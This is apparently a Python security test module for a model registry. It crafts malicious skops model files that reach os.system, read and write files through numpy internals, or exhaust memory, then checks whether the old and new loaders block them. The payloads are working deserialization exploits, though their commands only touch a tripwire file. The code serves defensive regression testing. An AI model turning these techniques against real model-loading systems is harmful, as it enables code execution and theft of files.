"""Hostile skops files, made by editing ``schema.json`` inside the zip of a real ``LogisticRegression`` dump.

Each payload is one extra attribute of a working model, so the model still predicts after it loads. The classes:

- re-exported callables: a name under ``sklearn.``/``numpy.`` that *is* something else
  (``sklearn.utils.discovery.import_module`` is ``importlib.import_module``);
- reduce and method nodes: skops calls the named object with the file's arguments (``ConstructorFromReduceNode``)
  or fetches any attribute of a built object (``MethodNode``). A dict node calls each of its key types with the key:
  that is how a payload calls what it reached;
- numpy file I/O under other module paths (``numpy._core.multiarray.fromfile`` is ``numpy.fromfile``), and
  ``numpy.fromfunction``, which calls its argument;
- memory amplification: many nodes naming one compressed member.

Also the loading logic of the release before the reviewed list (:func:`old_reviewable`, :func:`old_deserialize`,
copied from ``registry/core/artifacts.py`` at a8ba1d1), to show that each payload acts there. Run as
``python -m tests.registry.attacks_skops {old,new} ARTIFACT [--canary PATH]``: loads the file in a fresh process
and prints one JSON line: the outcome, whether the canary was opened, the modules imported and the growth of the
peak resident size during the load.
"""

from __future__ import annotations

import argparse
import io
import json
import resource
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

Node = dict[str, Any]

# -- the loading logic before the reviewed list (registry/core/artifacts.py at a8ba1d1) -----------------------------
OLD_ALLOWED_PREFIXES = ("sklearn.", "numpy.", "scipy.")
OLD_ALLOWED_NAMES = frozenset({"functools.partial"})
OLD_DENIED_PREFIXES = (
    "numpy.load",
    "numpy.save",
    "numpy.fromfile",
    "numpy.tofile",
    "numpy.memmap",
    "numpy.genfromtxt",
    "numpy.fromregex",
    "numpy.DataSource",
    "numpy.lib.npyio",
    "numpy.lib.format",
    "numpy.lib._npyio",
    "numpy.lib._datasource",
    "numpy.ctypeslib",
    "numpy.f2py",
    "numpy.distutils",
    "numpy.testing",
    "scipy.io",
    "scipy._lib",
    "sklearn.datasets",
    "sklearn.externals",
    "sklearn.utils._testing",
    "sklearn.utils._show_versions",
)


def old_reviewable(type_name: str) -> bool:
    """The old review: a name passed when it started with an allowed prefix and no denied one."""
    if type_name in OLD_ALLOWED_NAMES:
        return True
    return type_name.startswith(OLD_ALLOWED_PREFIXES) and not type_name.startswith(OLD_DENIED_PREFIXES)


def old_review(data: bytes) -> list[str]:
    """The old registration review (``review_types``): the types it would record, or PermissionError."""
    import skops.io as sio

    types = sorted(sio.get_untrusted_types(data=data))
    refused = [t for t in types if not old_reviewable(t)]
    if refused:
        raise PermissionError(f"old review refuses {refused}")
    return types


def old_deserialize(data: bytes) -> Any:
    """The old load of a skops artifact whose types passed the old review."""
    import skops.io as sio

    return sio.loads(data, trusted=old_review(data))


# -- nodes ---------------------------------------------------------------------------------------------------
def json_node(value: Any) -> Node:
    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(value)}


def tuple_node(*items: Node) -> Node:
    return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": list(items)}


def list_node(*items: Node) -> Node:
    return {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": list(items)}


def type_node(module: str, name: str) -> Node:
    return {"__class__": name, "__module__": module, "__loader__": "TypeNode"}


def dict_node(content: dict[str, Node], key_types: list[Node] | None = None) -> Node:
    keys = key_types if key_types is not None else [type_node("builtins", "str") for _ in content]
    return {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": content,
        "key_types": list_node(*keys),
    }


def function_node(module: str, name: str) -> Node:
    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode"}


def reduce_node(module: str, name: str, *args: Node) -> Node:
    """skops calls ``module.name(*args)`` to build it."""
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "content": tuple_node(*args),
    }


def method_node(obj: Node, attribute: str) -> Node:
    """skops builds ``obj`` and returns ``getattr(obj, attribute)``."""
    return {
        "__class__": obj["__class__"],
        "__module__": obj["__module__"],
        "__loader__": "MethodNode",
        "content": {"obj": obj, "func": attribute},
    }


def partial_node(func: Node, *args: Node) -> Node:
    return {
        "__class__": "partial",
        "__module__": "functools",
        "__loader__": "PartialNode",
        "content": {
            "func": func,
            "args": tuple_node(*args),
            "kwds": dict_node({}),
            "namespace": json_node(None),
        },
    }


def call_with_text(func: Node, text: str) -> Node:
    """A dict whose one key type is ``func``: building it calls ``func(text)``."""
    return dict_node({text: json_node(0)}, key_types=[func])


def array_node(member: str, ident: int | None = None) -> Node:
    node: Node = {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy"}
    node["file"] = member
    if ident is not None:
        node["__id__"] = ident
    return node


# -- files ---------------------------------------------------------------------------------------------------
def base_model() -> Any:
    """A working LogisticRegression on three features."""
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    x = rng.normal(size=(60, 3))
    return LogisticRegression().fit(x, (x[:, 0] + x[:, 1] > 0).astype(int))


def base_dump() -> bytes:
    import skops.io as sio

    return sio.dumps(base_model())


def edit(
    data: bytes,
    change: Callable[[dict[str, Any]], None],
    *,
    extra: dict[str, bytes] | None = None,
    deflate: frozenset[str] = frozenset(),
) -> bytes:
    """``data`` with its schema changed by ``change`` and ``extra`` members added (compressed if in ``deflate``)."""
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        schema = json.loads(src.read("schema.json"))
        members = {n: src.read(n) for n in src.namelist() if n != "schema.json"}
    change(schema)
    members.update(extra or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for name, blob in members.items():
            dst.writestr(name, blob, zipfile.ZIP_DEFLATED if name in deflate else zipfile.ZIP_STORED)
        dst.writestr("schema.json", json.dumps(schema))
    return out.getvalue()


def with_attribute(data: bytes, name: str, node: Node) -> bytes:
    """The model with one more attribute, built from ``node`` when the model loads."""

    def change(schema: dict[str, Any]) -> None:
        attrs = schema["content"]  # the estimator's __dict__: a DictNode with one key type per key
        attrs["content"][name] = node
        attrs["key_types"]["content"].append(type_node("builtins", "str"))

    return edit(data, change)


# -- the payloads ----------------------------------------------------------------------------------------------
def import_module_runs_a_command(tripwire: Path) -> bytes:
    """Re-export: ``sklearn.utils.discovery.import_module("os")``, then ``.system`` of it, called with a command."""
    os_module = reduce_node("sklearn.utils.discovery", "import_module", json_node("os"))
    return with_attribute(
        base_dump(), "_pmr_cache", call_with_text(method_node(os_module, "system"), f"touch {tripwire}")
    )


def import_module_imports_a_module(module: str) -> bytes:
    """Re-export alone: ``import_module`` as a dict's key type imports any module the file names (its code runs)."""
    importer = function_node("sklearn.utils.discovery", "import_module")
    return with_attribute(base_dump(), "_pmr_cache", call_with_text(importer, module))


def method_reaches_os_system(tripwire: Path) -> bytes:
    """Method node: ``sklearn.os`` is the os module; a method node reaches ``.system`` and a dict calls it."""
    system = method_node(function_node("sklearn", "os"), "system")
    return with_attribute(base_dump(), "_pmr_cache", call_with_text(system, f"touch {tripwire}"))


def reduce_calls_fromfunction(tripwire: Path) -> bytes:
    """Reduce node: ``numpy.fromfunction(f, ())`` calls ``f()``; ``f`` is ``partial(os.system, command)``."""
    system = method_node(function_node("sklearn", "os"), "system")
    call = reduce_node("numpy", "fromfunction", partial_node(system, json_node(f"touch {tripwire}")), tuple_node())
    return with_attribute(base_dump(), "_pmr_cache", call)


def fromfile_reads(canary: Path) -> bytes:
    """numpy file I/O under another path: ``numpy._core.multiarray.fromfile(canary)`` in a reduce node."""
    read = reduce_node("numpy._core.multiarray", "fromfile", json_node(str(canary)), json_node("uint8"))
    return with_attribute(base_dump(), "_pmr_cache", read)


def fromfunction_reads(canary: Path) -> bytes:
    """``numpy.fromfunction`` calling ``partial(numpy._core.multiarray.fromfile, canary)``."""
    reader = partial_node(function_node("numpy._core.multiarray", "fromfile"), json_node(str(canary)))
    return with_attribute(base_dump(), "_pmr_cache", reduce_node("numpy", "fromfunction", reader, tuple_node()))


def memmap_writes(tripwire: Path) -> bytes:
    """``numpy._core.memmap.memmap(tripwire, "uint8", "w+", 0, (8,))``: creates a file of the payload's choosing."""
    write = reduce_node(
        "numpy._core.memmap",
        "memmap",
        json_node(str(tripwire)),
        json_node("uint8"),
        json_node("w+"),
        json_node(0),
        tuple_node(json_node(8)),
    )
    return with_attribute(base_dump(), "_pmr_cache", write)


def one_member_many_nodes(member_bytes: int, nodes: int) -> bytes:
    """Memory: ``nodes`` array nodes (each its own ``__id__``) naming one member of ``member_bytes`` zeros.

    The member is deflated (a thousandfold); the schema is stored. skops reads the member once per node.
    """
    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, np.zeros(0, dtype=np.uint8))
    header = buffer.getvalue()
    blob = header + bytes(member_bytes - len(header))

    def change(schema: dict[str, Any]) -> None:
        attrs = schema["content"]
        attrs["content"]["_pmr_cache"] = list_node(*(array_node("bomb.npy", 10**9 + i) for i in range(nodes)))
        attrs["key_types"]["content"].append(type_node("builtins", "str"))

    return edit(base_dump(), change, extra={"bomb.npy": blob}, deflate=frozenset({"bomb.npy"}))


# -- a fresh process that loads a file -----------------------------------------------------------------------
def _reset_peak() -> None:
    """Make the peak resident size start from now (Linux; getrusage's maxrss also holds the parent's peak at exec)."""
    try:
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        pass


def _peak_mib() -> float:
    """Peak resident size since :func:`_reset_peak`: ``VmHWM``, or ``ru_maxrss`` where /proc is missing."""
    try:
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) / 1024
    except OSError:
        pass
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # KiB on Linux


def run(mode: str, artifact: Path, canary: Path | None) -> dict[str, Any]:
    """Load ``artifact`` with the old logic or the new, watching for the canary and new imports."""
    import sklearn.linear_model  # noqa: F401  (the baseline includes what any load imports)
    import skops.io  # noqa: F401

    from prefect_model_registry.registry.core import artifacts

    opened: list[str] = []
    watched = str(canary.resolve()) if canary is not None else None

    def audit(event: str, args: tuple[Any, ...]) -> None:
        if event == "open" and watched is not None and args and isinstance(args[0], str | bytes | Path):
            path = args[0].decode() if isinstance(args[0], bytes) else str(args[0])
            if str(Path(path).resolve()) == watched:
                opened.append(path)

    data = artifact.read_bytes()
    before_modules = set(sys.modules)
    _reset_peak()
    baseline = _peak_mib()
    sys.addaudithook(audit)
    try:
        if mode == "old":
            obj = old_deserialize(data)
        elif mode == "old-review":
            obj = old_review(data)
        else:
            obj = artifacts.deserialize(data, "skops")
        outcome = f"loaded {type(obj).__name__}"
    except Exception as exc:  # the outcome is what the test asserts on
        outcome = f"refused {type(exc).__name__}: {exc}"
    return {
        "outcome": outcome,
        "opened_canary": bool(opened),
        "imported": sorted(set(sys.modules) - before_modules),
        "peak_growth_mib": round(_peak_mib() - baseline, 1),
    }


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=["old", "old-review", "new"])
    parser.add_argument("artifact", type=Path)
    parser.add_argument("--canary", type=Path)
    args = parser.parse_args(argv)
    report = run(args.mode, args.artifact, args.canary)
    print("\n" + json.dumps(report))


if __name__ == "__main__":
    main()
